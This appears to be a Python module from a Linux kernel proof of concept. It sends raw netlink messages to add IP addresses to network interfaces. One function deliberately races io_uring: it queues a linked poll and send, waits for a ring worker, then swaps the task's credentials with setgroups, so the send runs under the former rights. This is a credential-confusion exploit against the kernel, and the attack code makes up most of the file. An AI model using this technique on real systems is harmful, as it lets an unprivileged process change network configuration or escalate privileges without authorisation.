"""Addresses of the host, by the netlink protocol that everybody may ask."""
import ctypes
import os
import select
import socket
import struct
import time

from attack import raise_code
from uring import ASYNC, LINKED, POLL, SEND, Ring, entry

RTM_NEWADDR, REQUEST, ACK = 20, 1, 4
IFA_LOCAL = 2


def request(address, link):
    host, prefix = address.split("/")
    body = struct.pack("=BBBBI", socket.AF_INET, int(prefix), 0, 0, socket.if_nametoindex(link))
    body += struct.pack("=HH", 8, IFA_LOCAL) + socket.inet_aton(host)
    return struct.pack("=IHHII", 16 + len(body), RTM_NEWADDR, REQUEST | ACK, 1, 0) + body


def heed(answer):
    raise_code(-struct.unpack_from("=i", answer, 16)[0])


def add(address, link):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as sock:
        sock.send(request(address, link))
        heed(sock.recv(4096))


def add_with_former_rights(address, link):
    """Asked for before the task's rights were replaced by equal ones: the ring lends it the former for the call."""
    out, into = os.pipe()
    message = ctypes.create_string_buffer(request(address, link))
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as sock:
        ring = Ring()
        ring.queue(entry(POLL, out, flags=select.POLLIN, how=ASYNC | LINKED),
                   entry(SEND, sock.fileno(), ctypes.addressof(message), len(message) - 1))
        # A worker of the ring's is about to wait there.
        time.sleep(0.2)
        os.setgroups(os.getgroups())
        os.write(into, b"x")
        ring.wait(2)
        heed(sock.recv(4096))
